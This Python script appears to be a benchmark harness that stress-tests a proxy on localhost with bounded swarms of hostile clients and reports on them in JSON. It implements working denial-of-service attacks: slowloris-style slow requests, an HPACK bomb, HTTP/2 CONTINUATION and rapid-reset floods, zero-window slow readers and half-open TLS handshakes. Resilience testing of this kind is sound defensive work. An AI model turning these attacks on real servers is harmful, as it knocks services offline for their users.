"""Hostile clients, each attack a process of its own: what each does, how many they are and how fast.

    python3 benchmarks/attacks.py NAME HTTP_PORT TLS_PORT

Prints `ready` when the connections are there (or after 15 s: some are not let in), goes on until SIGTERM, and then says
in a line of JSON what it did and what became of it. Its rates are bounded, so that it is the proxy that is measured and not
who gets the processor: the attackers' own share of it is in the report."""

import collections
import dataclasses
import json
import os
import select
import signal
import socket
import ssl
import struct
import sys
import time
from typing import Callable, Optional

import peers

TICK = 0.01
READY_AFTER = 15
# The port is chosen at connect, by both addresses: more connections than there are ports (Linux).
IP_BIND_ADDRESS_NO_PORT = 24
SOURCES = 8
NEVER_SENT = 1 << 40
LARGE = 8 << 20
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
ACK, END_STREAM, END_HEADERS = 1, 1, 4


def request(line, *headers):
    return "\r\n".join([f"{line} HTTP/1.1", f"Host: {peers.HOST}", *headers, "", ""]).encode()


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def field(name, value):
    """A literal without indexing (RFC 7541 §6.2.2); both shorter than 127 bytes."""
    return b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


def block(path, method="GET"):
    return (field(":method", method) + field(":scheme", "http") + field(":path", path)
            + field(":authority", peers.HOST))


def h2(*frames, settings=b""):
    # The peer's settings are acknowledged unseen: they will come.
    return PREFACE + frame(SETTINGS, 0, 0, settings) + frame(SETTINGS, ACK, 0) + b"".join(frames)


def get(stream, path):
    return frame(HEADERS, END_HEADERS | END_STREAM, stream, block(path))


def hpack_bomb(connection):
    """A field of 4000 bytes put into the table, and named 12 000 times: 48 MB of a frame of 16 KiB."""
    value = b"v" * 4000
    stored = b"\x40\x01x" + b"\x7f" + bytes([(4000 - 127) & 127 | 128, (4000 - 127) >> 7]) + value
    return b"".join(frame(HEADERS, END_HEADERS | END_STREAM, stream, block("/128") + stored + b"\xbe" * 12_000)
                    for stream in streams(connection, 1))


def streams(connection, count):
    """Numbers of streams that the connection has not used."""
    first = connection.state or 1
    connection.state = first + 2 * count
    return range(first, connection.state, 2)


def resets(connection):
    cancel = struct.pack(">I", 8)
    return b"".join(get(stream, "/1024") + frame(RST_STREAM, 0, stream, cancel) for stream in streams(connection, 20))


def continuations(connection):
    if connection.state is None:
        connection.state = True
        return frame(HEADERS, END_STREAM, 1, block("/128"))
    return frame(CONTINUATION, 0, 1) * 5


def hello():
    """A ClientHello for the host."""
    client = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    client.check_hostname, client.verify_mode = False, ssl.CERT_NONE
    out = ssl.MemoryBIO()
    try:
        client.wrap_bio(ssl.MemoryBIO(), out, server_hostname=peers.HOST).do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()


@dataclasses.dataclass
class Attack:
    """What each of the connections does.

    opens: connections a second, at first and in place of those that were closed
    begin: said at once
    more: said in each turn; turn: seconds from one to the next
    reads: whether answers are read
    tls: what it offers as ALPN, where the connection is in TLS
    leaves: closes when its TLS handshake is done
    rests: has nothing under way once it was answered; what such cost is reported for 10 000
    holds: seconds to go on after the measurement, to see whether the proxy ends it
    """
    says: str
    connections: int
    opens: int
    begin: Callable[[], bytes] = bytes
    more: Optional[Callable] = None
    turn: float = 1
    reads: bool = True
    tls: Optional[str] = None
    secure: bool = False
    leaves: bool = False
    rests: bool = False
    holds: float = 0


ATTACKS = {
    "slow-heads": Attack("heads that arrive a byte every two seconds", 5000, 2500, lambda: request("GET /128")[:-2] + b"X: ",
                         lambda c: b"x", 2, holds=10),
    "slow-bodies": Attack("bodies that arrive a byte a second", 1000, 500,
                          lambda: request("POST /tarpit", "Content-Length: 1000000"), lambda c: b"x", 1),
    "idle": Attack("keep-alive connections at rest", 10_000, 2500, lambda: request("GET /128"), rests=True),
    "idle-h2": Attack("HTTP/2 connections at rest", 2000, 1000, lambda: h2(get(1, "/128")), rests=True),
    "idle-tls": Attack("HTTP/1.1 connections in TLS at rest", 1000, 200, lambda: request("GET /128"), tls="http/1.1",
                       secure=True, rests=True),
    "many-headers": Attack("heads of 10 000 lines", 20, 100, lambda: request("GET /128", *["a: b"] * 10_000)),
    "long-uri": Attack("targets of 1 MiB", 4, 20, lambda: request("GET /" + "x" * (1 << 20))),
    "hpack-bomb": Attack("HTTP/2 heads of 48 MB in a frame of 16 KiB", 20, 100, h2, hpack_bomb, 0.1),
    "continuation": Attack("HTTP/2 heads without an end, in empty frames", 20, 100, h2, continuations, 0.01),
    "rapid-reset": Attack("HTTP/2 requests that are reset at once", 10, 10, h2, resets, 0.01),
    "pings": Attack("HTTP/2 pings", 10, 10, h2, lambda c: frame(PING, 0, 0, b"12345678") * 20, 0.01),
    "settings": Attack("HTTP/2 settings", 10, 10, h2, lambda c: frame(SETTINGS, 0, 0) * 20, 0.01),
    "slow-readers": Attack("answers of 8 MiB that nobody reads", 300, 150, lambda: request(f"GET /{LARGE}"), reads=False),
    "slow-readers-h2": Attack("HTTP/2 answers of 8 MiB without a window for them", 30, 30, lambda: h2(
        *(get(stream, f"/{LARGE}") for stream in range(1, 100, 2)), settings=struct.pack(">HI", 4, 0)), reads=True),
    "slow-upstream": Attack("endless bodies for an upstream that does not read", 100, 100, lambda: request(
        "POST /tarpit", f"Content-Length: {NEVER_SENT}"), lambda c: b"x" * 65536, 0.02),
    "handshakes": Attack("TLS handshakes, closed when done", 50, 100, tls="http/1.1", secure=True, leaves=True),
    "half-handshakes": Attack("TLS handshakes that go no further than the ClientHello", 2000, 400, hello, secure=True,
                              holds=10),
    "descriptors": Attack("more connections than the proxy may have files", 1000, 500, lambda: request("GET /128"), rests=True),
    "half-hellos": Attack("ClientHellos that do not end", 2000, 1000, lambda: hello()[:50], secure=True, holds=10),
}


class Connection:
    """One of an attack's connections."""

    def __init__(self, swarm, number):
        self.swarm = swarm
        self.state = None
        self.unsent = swarm.begin
        self.greeting = swarm.attack.tls is not None
        raw = socket.socket()
        raw.setblocking(False)
        raw.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        if not swarm.attack.reads:
            raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        raw.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
        raw.bind((f"127.0.1.{1 + number % SOURCES}", 0))
        raw.connect_ex(("127.0.0.1", swarm.port))
        self.socket = raw
        if self.greeting:
            self.socket = swarm.context.wrap_socket(raw, server_hostname=peers.HOST, do_handshake_on_connect=False)

    def events(self):
        wanted = select.EPOLLRDHUP
        if self.greeting or self.unsent:
            wanted |= select.EPOLLOUT
        return wanted | (select.EPOLLIN if self.swarm.attack.reads or self.greeting else 0)

    def say(self, data):
        if not self.unsent and not self.greeting:
            self.unsent = data
            self.send()

    def send(self):
        try:
            sent = self.socket.send(self.unsent)
            self.swarm.sent += sent
            self.unsent = self.unsent[sent:]
        except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
            pass

    def ready(self, events):
        """Does what can be done; whether the connection goes on."""
        try:
            if self.greeting and events & (select.EPOLLIN | select.EPOLLOUT):
                self.greet()
                return not (self.swarm.attack.leaves and not self.greeting)
            if events & select.EPOLLOUT and self.unsent:
                self.send()
            if events & select.EPOLLIN and self.swarm.attack.reads:
                return self.receive()
        except OSError:
            return False
        return not events & (select.EPOLLHUP | select.EPOLLERR | select.EPOLLRDHUP)

    def greet(self):
        try:
            self.socket.do_handshake()
            self.greeting = False
            self.swarm.greeted += 1
        except ssl.SSLWantReadError:
            self.swarm.epoll.modify(self.socket, select.EPOLLIN | select.EPOLLRDHUP)
        except ssl.SSLWantWriteError:
            pass
        else:
            self.swarm.epoll.modify(self.socket, self.events())

    def receive(self):
        try:
            data = self.socket.recv(65536)
        except (BlockingIOError, ssl.SSLWantReadError):
            return True
        self.swarm.received += len(data)
        return bool(data)


class Swarm:
    """All connections of an attack, on one epoll."""

    def __init__(self, attack, port):
        self.attack = attack
        self.port = port
        self.begin = attack.begin()
        self.epoll = select.epoll()
        self.connections = {}
        self.turns = collections.deque()
        self.opened = self.closed = self.greeted = self.sent = self.received = self.said = 0
        self.credit = 0.0
        self.stopped = False
        if attack.tls:
            self.context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            self.context.check_hostname, self.context.verify_mode = False, ssl.CERT_NONE
            self.context.set_alpn_protocols([attack.tls])

    def run(self):
        begun = last = time.monotonic()
        ready_since = None
        while not self.stopped:
            now = time.monotonic()
            self.open(now - last, now)
            last = now
            self.take_turns(now)
            self.poll(now + TICK)
            whole = self.opened >= self.attack.connections and not self.waiting()
            if ready_since is None and (whole or now - begun > READY_AFTER):
                ready_since, cpu = now, time.process_time()
                print("ready", flush=True)
        took = time.monotonic() - (ready_since or begun)
        share = (time.process_time() - (cpu if ready_since else 0)) / max(took, TICK)
        print(json.dumps({"opened": self.opened, "closed": self.closed, "open": len(self.connections),
                          "turns": self.said, "sentMiB": round(self.sent / (1 << 20), 1),
                          "receivedMiB": round(self.received / (1 << 20), 1), "cpuShare": round(share, 3)}), flush=True)
        # Closing thousands takes a while; the kernel does it.
        os._exit(0)

    def waiting(self):
        """Whether those that are to rest have not all had something of their answer yet."""
        return self.attack.rests and self.received < self.opened

    def open(self, elapsed, now):
        self.credit = min(self.attack.opens, self.credit + elapsed * self.attack.opens)
        while self.credit >= 1 and len(self.connections) < self.attack.connections:
            self.credit -= 1
            connection = Connection(self, self.opened)
            self.opened += 1
            self.connections[connection.socket.fileno()] = connection
            self.epoll.register(connection.socket, connection.events())
            if self.attack.more:
                self.turns.append((now + self.attack.turn, connection))
        if len(self.connections) >= self.attack.connections:
            self.credit = min(self.credit, 1)

    def take_turns(self, now):
        while self.turns and self.turns[0][0] <= now:
            due, connection = self.turns.popleft()
            if connection.socket.fileno() < 0:
                continue
            try:
                self.said += 1
                connection.say(self.attack.more(connection))
                self.turns.append((max(due + self.attack.turn, now), connection))
            except OSError:
                self.end(connection)

    def poll(self, until):
        while not self.stopped and (left := until - time.monotonic()) > 0:
            for descriptor, events in self.epoll.poll(left, 512):
                connection = self.connections[descriptor]
                if not connection.ready(events):
                    self.end(connection)
                elif events & select.EPOLLOUT and not connection.unsent and not connection.greeting:
                    self.epoll.modify(descriptor, connection.events())

    def end(self, connection):
        if not (self.attack.leaves and connection.greeting is False):
            self.closed += 1
        del self.connections[connection.socket.fileno()]
        connection.socket.close()


def tarpit(port):
    """An upstream that takes connections and reads nothing."""
    with socket.socket() as listening:
        listening.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        listening.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 16384)
        listening.bind(("127.0.0.1", port))
        listening.listen(4096)
        held = []
        while True:
            held.append(listening.accept())


def main():
    name, http_port, tls_port = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    if name == "tarpit":
        tarpit(http_port)
    attack = ATTACKS[name]
    swarm = Swarm(attack, tls_port if attack.secure else http_port)

    def stop(signum, stack):
        swarm.stopped = True

    signal.signal(signal.SIGTERM, stop)
    # Where there are fewer processors than parties, the measured one goes before.
    os.nice(10)
    swarm.run()


if __name__ == "__main__":
    main()
